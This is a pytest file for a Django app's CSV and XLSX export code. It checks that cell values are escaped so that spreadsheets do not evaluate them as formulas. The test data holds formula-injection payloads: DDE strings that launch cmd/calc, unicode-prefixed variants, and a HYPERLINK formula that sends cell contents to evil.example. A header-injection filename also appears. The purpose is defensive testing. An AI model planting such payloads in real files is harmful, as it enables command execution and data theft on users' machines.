"""Nothing that people wrote is calculated by the spreadsheet that opens our files (CSV and XLSX)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy

from accounts.models import User, WeiboAccount
from content.importing import read_lines
from content.importing.rows import parse_row
from core.exports import FORMULA, csv_download, csv_lines, own_text, safe_cell
from reports.render.xlsx import _sheet
from tests.conftest import ClientOf

STRINGS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"点我")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "'=1+1",
    "''＝1+1",
]  # fmt: skip
HARMLESS = ["好用", "1.2万", "—", "a=b", "'引号", "", "（-）", "#话题#"]


@pytest.mark.parametrize("text", STRINGS)
def test_it_is_text_and_comes_back_as_it_was(text: str) -> None:
    cell = safe_cell(text)
    assert cell.startswith("'") and not FORMULA.match(cell)
    assert own_text(cell) == text.replace("\x00", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text == own_text(text)


def test_objects_and_lazy_words_are_text_too() -> None:
    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Named()) == "'=1+1" == safe_cell(gettext_lazy("=1+1"))
    assert safe_cell(-5) == -5 and safe_cell(None) == ""


def test_our_own_file_comes_in_as_it_went_out() -> None:
    data = "".join(csv_lines(["正文"], [[text] for text in STRINGS if text.strip() == text and "\x00" not in text]))
    with read_lines(io.BytesIO(data.encode())) as lines:
        header = [cell.strip() for cell in next(lines).cells]
        found = [parse_row(line, header, {"text": 0}).text for line in lines]
    assert found == [text for text in STRINGS if text.strip() == text and "\x00" not in text]


def test_the_name_of_a_file_stays_a_name() -> None:
    header = csv_download('../a"\r\nX: y', ["a"], [])["Content-Disposition"]
    assert header == "attachment; filename*=UTF-8''a_X_%20y.csv"


def test_workbooks_hold_strings_as_strings() -> None:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"strings_to_formulas": False, "strings_to_urls": False, "in_memory": True})
    rows = [[text.replace("\x00", "").replace("\x0b", "")] for text in STRINGS]
    _sheet(book, "=名", ["=标题"], rows, book.add_format())
    book.close()
    sheet = openpyxl.load_workbook(out).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}


def test_a_nickname_cannot_calculate(administrator: User, account: WeiboAccount, client_of: ClientOf) -> None:
    WeiboAccount.objects.filter(pk=account.pk).update(nickname="=cmd|' /C calc'!A0")
    for name in ("accounts:matrix_export", "accounts:rights_export", "content:library_export"):
        answer = client_of(administrator).get(reverse(name))
        text = b"".join(getattr(answer, "streaming_content", ())).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if FORMULA.match(cell) and not cell.lstrip("-").replace(".", "").isdigit()]
